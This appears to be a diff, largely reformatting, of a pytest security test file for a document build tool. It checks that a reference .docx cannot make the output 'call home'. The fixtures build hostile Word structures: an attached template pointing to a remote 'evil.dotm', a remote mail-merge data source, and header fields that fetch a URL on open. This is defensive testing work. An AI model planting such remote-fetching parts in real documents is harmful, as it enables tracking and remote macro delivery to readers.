@@ -14,14 +14,15 @@ from __future__ import annotations
 import zipfile
 
 import pytest
-
 from helpers import EVENT, assert_ok
 from trust_helpers import Attack, plant_reference_docx
 
 DOCX = ("-f", "docx", "-d", "fact-sheet")
 R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
-RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>')
+RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+)
 TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 
 
@@ -33,28 +34,51 @@ def _attached_template(a: Attack) -> None:
     def settings(data: bytes) -> bytes:
         return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdEvil"/><w:zoom', 1)
 
-    plant_reference_docx(a, {"word/settings.xml": settings}, {
-        "word/_rels/settings.xml.rels": RELS.format(
-            _external("rIdEvil", "attachedTemplate", a.network.url("evil.dotm")))})
+    plant_reference_docx(
+        a,
+        {"word/settings.xml": settings},
+        {
+            "word/_rels/settings.xml.rels": RELS.format(
+                _external("rIdEvil", "attachedTemplate", a.network.url("evil.dotm"))
+            )
+        },
+    )
 
 
 def _mail_merge_source(a: Attack) -> None:
     def settings(data: bytes) -> bytes:
-        return data.replace(b"<w:zoom", b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
-                            b'<w:dataSource r:id="rIdData"/></w:mailMerge><w:zoom', 1)
+        return data.replace(
+            b"<w:zoom",
+            b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
+            b'<w:dataSource r:id="rIdData"/></w:mailMerge><w:zoom',
+            1,
+        )
 
-    plant_reference_docx(a, {"word/settings.xml": settings}, {
-        "word/_rels/settings.xml.rels": RELS.format(
-            _external("rIdData", "mailMergeSource", a.network.url("data.csv")))})
+    plant_reference_docx(
+        a,
+        {"word/settings.xml": settings},
+        {
+            "word/_rels/settings.xml.rels": RELS.format(
+                _external("rIdData", "mailMergeSource", a.network.url("data.csv"))
+            )
+        },
+    )
 
 
 def _read_docx(a: Attack) -> dict[str, str]:
     with zipfile.ZipFile(a.build_dir / EVENT / "fact-sheet.docx") as docx:
-        return {n: docx.read(n).decode("utf-8", "replace") for n in docx.namelist() if n.endswith((".xml", ".rels"))}
+        return {
+            n: docx.read(n).decode("utf-8", "replace")
+            for n in docx.namelist()
+            if n.endswith((".xml", ".rels"))
+        }
 
 
-@pytest.mark.parametrize("plant", [_attached_template, _mail_merge_source],
-                         ids=["reference-docx-attached-template-on-a-server", "reference-docx-mail-merge-source"])
+@pytest.mark.parametrize(
+    "plant",
+    [_attached_template, _mail_merge_source],
+    ids=["reference-docx-attached-template-on-a-server", "reference-docx-mail-merge-source"],
+)
 def test_a_reference_docx_cannot_make_the_briefing_call_home(attacked: Attack, plant):
     plant(attacked)
     assert_ok(attacked.build(*DOCX))
@@ -71,23 +95,40 @@ def test_a_reference_docx_cannot_make_the_briefing_call_home(attacked: Attack, p
 def test_a_reference_docx_header_field_that_fetches_is_refused(attacked: Attack, field):
     """A header of the reference document with a field Word fetches (or runs) on open."""
     url = attacked.network.url("x.png")
-    header = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr '
-              f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" {R}><w:p><w:r>'
-              f'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {field} '
-              f'"{url}" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>')
+    header = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr '
+        f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" {R}><w:p><w:r>'
+        f'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {field} '
+        f'"{url}" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
+    )
 
     def document(data: bytes) -> bytes:
-        return data.replace(b"<w:sectPr", b'<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/>'
-                            b"</w:sectPr><w:sectPr", 1) if b"<w:sectPr" in data else data
+        return (
+            data.replace(
+                b"<w:sectPr",
+                b'<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr><w:sectPr',
+                1,
+            )
+            if b"<w:sectPr" in data
+            else data
+        )
 
     def rels(data: bytes) -> bytes:
-        return data.replace(b"</Relationships>", f'<Relationship Id="rIdH" Type="{TYPE}header" '
-                            'Target="header9.xml"/></Relationships>'.encode())
+        return data.replace(
+            b"</Relationships>",
+            f'<Relationship Id="rIdH" Type="{TYPE}header" Target="header9.xml"/></Relationships>'.encode(),
+        )
 
     def types(data: bytes) -> bytes:
-        return data.replace(b"</Types>", b'<Override PartName="/word/header9.xml" ContentType="application/'
-                            b'vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>')
+        return data.replace(
+            b"</Types>",
+            b'<Override PartName="/word/header9.xml" ContentType="application/'
+            b'vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
+        )
 
-    plant_reference_docx(attacked, {"word/_rels/document.xml.rels": rels, "[Content_Types].xml": types,
-                                    "word/document.xml": document}, {"word/header9.xml": header})
+    plant_reference_docx(
+        attacked,
+        {"word/_rels/document.xml.rels": rels, "[Content_Types].xml": types, "word/document.xml": document},
+        {"word/header9.xml": header},
+    )
     attacked.refused(attacked.build(*DOCX), 4, "ref.docx", field)
